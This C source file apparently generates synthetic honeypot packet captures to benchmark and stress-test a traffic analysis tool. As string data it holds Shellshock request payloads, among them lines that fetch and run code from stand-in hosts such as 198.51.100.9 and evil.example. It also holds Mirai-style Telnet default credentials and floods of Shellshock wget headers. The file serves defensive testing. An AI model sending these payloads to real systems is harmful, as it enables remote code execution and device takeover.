/*
 * gencap_bench.c - "hs-gencap bench": a large, honeypot-like capture.
 *
 * Sources are drawn from N /24 networks (30.0.7.0/24, 30.1.7.0/24, ...)
 * so that attribution databases can be built for exactly those networks
 * (--networks-out lists them).  The traffic mix follows what the studies
 * saw at a sensor: mostly lone SYNs to many ports, some UDP and ICMP, and
 * about 10% of events are HTTP sessions with handshakes, a few of them
 * Shellshock, plus some Telnet bot sessions.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pcapw.h"

typedef struct {
    uint64_t s;
} rng_t;

static uint32_t rnd(rng_t *r) /* xorshift64*: deterministic across platforms */
{
    r->s ^= r->s >> 12;
    r->s ^= r->s << 25;
    r->s ^= r->s >> 27;
    return (uint32_t)((r->s * 2685821657736338717ull) >> 32);
}

static void net_base(unsigned i, uint8_t *a)
{
    a[0] = (uint8_t)(30 + i / 256);
    a[1] = (uint8_t)(i % 256);
    a[2] = 7;
    a[3] = 0;
}

static const char *const http_plain[] = {
    "GET / HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
    "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\r\nAccept: text/html,*/*\r\n"
    "Accept-Language: en-US,en;q=0.9\r\nConnection: close\r\n\r\n",
    "GET /cgi-bin/luci HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    "POST /login.php HTTP/1.1\r\nHost: 203.0.113.10\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    "Content-Length: 29\r\n\r\nusername=admin&password=admin",
    "GET /.env HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: python-requests/2.31\r\n\r\n",
};

static const char *const http_shellshock[] = {
    "GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: () { :; }; echo; echo vulnerable\r\n\r\n",
    "GET /cgi-bin/status HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: () { :;}; /bin/ping -c1 198.51.100.7\r\n\r\n",
    "GET /cgi-bin/bash HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: () { :; }; /bin/bash -c \"cd /tmp;wget http://198.51.100.9/x86;chmod 777 x86;./x86\"\r\n\r\n",
    "GET /cgi-bin/php HTTP/1.0\r\nReferer: () { _; } >_[$($())] { echo hi; }\r\nCookie: () { :; }; curl -s http://evil.example/s.sh | sh\r\n\r\n",
};

static const char *const telnet_lines[] = {"root\r\n", "xc3511\r\n", "enable\r\n", "system\r\n",
                                           "shell\r\n", "sh\r\n", "/bin/busybox ECCHI\r\n"};

typedef struct {
    pw_writer_t w;
    rng_t r;
    double t;
    uint64_t frames;
} bench_t;

static double tick(bench_t *b)
{
    b->t += 0.0005 + (rnd(&b->r) % 1000) * 0.00001;
    return b->t;
}

static void session(bench_t *b, const pw_endpoint_t *cli, const pw_endpoint_t *srv,
                    const char *const *msgs, size_t n, const char *reply)
{
    static const uint8_t mss[] = {2, 4, 0x05, 0xb4};
    pw_shape_t shape = {.opts = mss, .opts_len = sizeof(mss), .df = true};
    uint32_t cs = rnd(&b->r), ss = rnd(&b->r);
    pw_tcp(&b->w, tick(b), cli, srv, PW_SYN, cs++, 0, &shape, NULL, 0);
    pw_tcp(&b->w, tick(b), srv, cli, PW_SYN | PW_ACK, ss++, cs, &shape, NULL, 0);
    pw_tcp(&b->w, tick(b), cli, srv, PW_ACK, cs, ss, NULL, NULL, 0);
    for (size_t i = 0; i < n; i++) {
        size_t len = strlen(msgs[i]);
        pw_tcp(&b->w, tick(b), cli, srv, PW_PSH | PW_ACK, cs, ss, NULL, (const uint8_t *)msgs[i], len);
        cs += (uint32_t)len;
    }
    if (reply) {
        size_t len = strlen(reply);
        pw_tcp(&b->w, tick(b), srv, cli, PW_PSH | PW_ACK, ss, cs, NULL, (const uint8_t *)reply, len);
        ss += (uint32_t)len;
    }
    pw_tcp(&b->w, tick(b), cli, srv, PW_FIN | PW_ACK, cs++, ss, NULL, NULL, 0);
    pw_tcp(&b->w, tick(b), srv, cli, PW_FIN | PW_ACK, ss++, cs, NULL, NULL, 0);
    pw_tcp(&b->w, tick(b), cli, srv, PW_ACK, cs, ss, NULL, NULL, 0);
}

int hs_gencap_bench(int argc, char **argv)
{
    unsigned long frames = 500000, sources = 50000, networks = 2000, seed = 1;
    bool scans_only = false; /* --scans-only: no HTTP or Telnet session at all */
    const char *out = NULL, *nets_out = NULL;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        unsigned long *target = NULL;
        if (strcmp(a, "--frames") == 0)
            target = &frames;
        else if (strcmp(a, "--sources") == 0)
            target = &sources;
        else if (strcmp(a, "--networks") == 0)
            target = &networks;
        else if (strcmp(a, "--seed") == 0)
            target = &seed;
        else if (strcmp(a, "--scans-only") == 0) {
            scans_only = true;
            continue;
        } else if (strcmp(a, "--networks-out") == 0 && i + 1 < argc) {
            nets_out = argv[++i];
            continue;
        } else if (a[0] != '-' && !out) {
            out = a;
            continue;
        } else {
            fprintf(stderr, "hs-gencap bench: unknown argument '%s'\n", a);
            return 2;
        }
        if (i + 1 >= argc) {
            fprintf(stderr, "hs-gencap bench: %s needs a value\n", a);
            return 2;
        }
        *target = strtoul(argv[++i], NULL, 10);
    }
    if (!out || networks == 0 || networks > 256 * 200 || sources == 0 || sources > networks * 254) {
        fprintf(stderr, "hs-gencap bench: need OUT.pcap, 1..51200 networks, sources <= 254 per network\n");
        return 2;
    }
    if (nets_out) {
        FILE *f = fopen(nets_out, "w");
        if (!f) {
            perror(nets_out);
            return 2;
        }
        for (unsigned i = 0; i < networks; i++) {
            uint8_t a[4];
            net_base(i, a);
            fprintf(f, "%u.%u.%u.%u/24\n", a[0], a[1], a[2], a[3]);
        }
        fclose(f);
    }
    bench_t b = {.r = {seed * 0x9e3779b97f4a7c15ull + 1}, .t = 1411603200.0};
    if (!pw_open(&b.w, out)) {
        perror(out);
        return 2;
    }
    pw_endpoint_t sensor = {.v6 = false, .addr = {203, 0, 113, 10}};
    static const uint16_t ports[] = {23, 23, 23, 22, 80, 445, 8080, 2323, 3389, 1433, 5555, 81};
    while (b.w.frames < frames) {
        unsigned s = rnd(&b.r) % (unsigned)sources;
        pw_endpoint_t src = {.v6 = false};
        net_base(s % (unsigned)networks, src.addr);
        src.addr[3] = (uint8_t)(1 + (s / (unsigned)networks) % 254);
        src.port = (uint16_t)(1024 + rnd(&b.r) % 60000);
        unsigned kind = rnd(&b.r) % 1000;
        if (scans_only && kind < 115)
            kind += 115; /* a scan SYN instead of a session */
        if (kind < 100) { /* an HTTP session, one in ten of them Shellshock */
            sensor.port = 80;
            const char *req = kind < 10 ? http_shellshock[rnd(&b.r) % 4] : http_plain[rnd(&b.r) % 4];
            session(&b, &src, &sensor, &req, 1,
                    "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nServer: Apache/2.2.22\r\n\r\n");
        } else if (kind < 115) { /* a Telnet bot on a silent honeypot */
            sensor.port = 23;
            session(&b, &src, &sensor, telnet_lines, sizeof(telnet_lines) / sizeof(*telnet_lines), NULL);
        } else if (kind < 900) { /* a scan SYN */
            sensor.port = ports[rnd(&b.r) % (sizeof(ports) / sizeof(*ports))];
            static const uint8_t opts[] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7};
            pw_shape_t shape = {.opts = opts, .opts_len = sizeof(opts), .df = true,
                                .window = 29200, .ttl = (uint8_t)(64 - rnd(&b.r) % 20)};
            pw_tcp(&b.w, tick(&b), &src, &sensor, PW_SYN, rnd(&b.r), 0, &shape, NULL, 0);
        } else if (kind < 970) {
            sensor.port = (uint16_t)(kind & 1 ? 53 : 1900);
            static const uint8_t q[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07""example\x03""com\x00\x00\x01\x00\x01";
            pw_udp(&b.w, tick(&b), &src, &sensor, q, sizeof(q) - 1);
        } else {
            pw_icmp_echo(&b.w, tick(&b), &src, &sensor, false, (uint16_t)rnd(&b.r), 1);
        }
    }
    return pw_close(&b.w) ? 0 : 2;
}

/* ---- "hs-gencap flood": hostile captures for the memory bench ---- */

/* A TCP conversation being written: its endpoints and sequence numbers. */
typedef struct {
    bench_t *b;
    pw_endpoint_t cli, srv;
    uint32_t cs, ss;
} flow_t;

/* Starts conversation number n; with handshake, SYN, SYN+ACK and ACK first. */
static void flow_open(flow_t *f, bench_t *b, unsigned n, uint16_t port, bool handshake)
{
    static const uint8_t mss[] = {2, 4, 0x05, 0xb4};
    pw_shape_t shape = {.opts = mss, .opts_len = sizeof(mss), .df = true};
    *f = (flow_t){.b = b, .srv = {.v6 = false, .addr = {203, 0, 113, 10}, .port = port}};
    f->cli.addr[0] = 31, f->cli.addr[1] = (uint8_t)(n >> 16), f->cli.addr[2] = (uint8_t)(n >> 8);
    f->cli.addr[3] = (uint8_t)n;
    f->cli.port = (uint16_t)(1024 + n % 60000);
    f->cs = rnd(&b->r), f->ss = rnd(&b->r);
    if (!handshake)
        return;
    pw_tcp(&b->w, tick(b), &f->cli, &f->srv, PW_SYN, f->cs++, 0, &shape, NULL, 0);
    pw_tcp(&b->w, tick(b), &f->srv, &f->cli, PW_SYN | PW_ACK, f->ss++, f->cs, &shape, NULL, 0);
    pw_tcp(&b->w, tick(b), &f->cli, &f->srv, PW_ACK, f->cs, f->ss, NULL, NULL, 0);
}

/* Client data, cut into segments of at most 1400 bytes. */
static void flow_send(flow_t *f, const char *d, size_t n)
{
    for (size_t off = 0; off < n;) {
        size_t k = n - off > 1400 ? 1400 : n - off;
        pw_tcp(&f->b->w, tick(f->b), &f->cli, &f->srv, PW_PSH | PW_ACK, f->cs, f->ss, NULL,
               (const uint8_t *)d + off, k);
        f->cs += (uint32_t)k;
        off += k;
    }
}

static void flow_close(flow_t *f)
{
    bench_t *b = f->b;
    pw_tcp(&b->w, tick(b), &f->cli, &f->srv, PW_FIN | PW_ACK, f->cs++, f->ss, NULL, NULL, 0);
    pw_tcp(&b->w, tick(b), &f->srv, &f->cli, PW_FIN | PW_ACK, f->ss++, f->cs, NULL, NULL, 0);
    pw_tcp(&b->w, tick(b), &f->cli, &f->srv, PW_ACK, f->cs, f->ss, NULL, NULL, 0);
}

static long file_size(const bench_t *b)
{
    fflush(b->w.f);
    return ftell(b->w.f);
}

/* One session on a silent honeypot: a login, then one-letter lines, 466
 * to a full segment, until the capture holds `bytes`. */
static void flood_telnet_lines(bench_t *b, long bytes)
{
    flow_t f;
    flow_open(&f, b, 1, 23, true);
    flow_send(&f, "root\r\n", 6);
    flow_send(&f, "xc3511\r\n", 8);
    char seg[1398];
    for (size_t i = 0; i + 3 <= sizeof(seg); i += 3)
        memcpy(seg + i, "a\r\n", 3);
    while (file_size(b) < bytes)
        flow_send(&f, seg, sizeof(seg));
    flow_close(&f);
}

/* Tens of thousands of Telnet conversations, each one segment that leaves
 * a partial line (no handshake: the least the attacker has to send). */
static void flood_telnet_partial(bench_t *b, long bytes)
{
    static const char part[] = "wget http://198.51.100.9/x";
    for (unsigned n = 1; file_size(b) < bytes; n++) {
        flow_t f;
        flow_open(&f, b, n, 23, false);
        flow_send(&f, part, sizeof(part) - 1);
    }
}

/* HTTP requests with `headers` header lines each, every one a Shellshock
 * payload, one request per conversation. */
static void flood_http(bench_t *b, long bytes, unsigned headers)
{
    size_t cap = 64 + (size_t)headers * 48, len;
    char *req = malloc(cap);
    if (!req)
        exit(2);
    for (unsigned n = 1; file_size(b) < bytes; n++) {
        len = (size_t)snprintf(req, cap, "GET /cgi-bin/%u HTTP/1.1\r\nHost: 203.0.113.10\r\n", n);
        for (unsigned h = 0; h < headers; h++)
            len += (size_t)snprintf(req + len, cap - len, "X-H%u: () { :;}; wget http://e.x/%u\r\n",
                                    h, h);
        len += (size_t)snprintf(req + len, cap - len, "\r\n");
        flow_t f;
        flow_open(&f, b, n, 80, true);
        flow_send(&f, req, len);
        flow_close(&f);
    }
    free(req);
}

int hs_gencap_flood(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: hs-gencap flood telnet-lines|telnet-partial|http-headers|"
                        "http-payloads BYTES OUT.pcap\n");
        return 2;
    }
    const char *kind = argv[1];
    long bytes = strtol(argv[2], NULL, 10);
    bench_t b = {.r = {0x9e3779b97f4a7c15ull}, .t = 1411603200.0};
    if (!pw_open(&b.w, argv[3])) {
        perror(argv[3]);
        return 2;
    }
    if (strcmp(kind, "telnet-lines") == 0)
        flood_telnet_lines(&b, bytes);
    else if (strcmp(kind, "telnet-partial") == 0)
        flood_telnet_partial(&b, bytes);
    else if (strcmp(kind, "http-headers") == 0)
        flood_http(&b, bytes, 3000);
    else if (strcmp(kind, "http-payloads") == 0)
        flood_http(&b, bytes, 20);
    else {
        fprintf(stderr, "hs-gencap flood: unknown kind '%s'\n", kind);
        return 2;
    }
    return pw_close(&b.w) ? 0 : 2;
}
